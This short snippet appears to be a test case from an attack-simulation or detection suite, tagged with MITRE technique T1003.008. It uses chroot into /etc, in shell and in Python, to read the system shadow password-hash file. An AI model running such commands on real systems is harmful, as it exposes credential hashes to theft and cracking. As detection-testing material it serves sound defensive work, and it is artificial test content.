# title: the hashes are read inside a root of one's own
# technique: T1003.008
# expects: shadow-file-read
# needs: busybox
chroot /etc /../bin/true 2>/dev/null; python3 - <<'P'
import os
os.chroot("/etc"); open("/shadow").read()
P
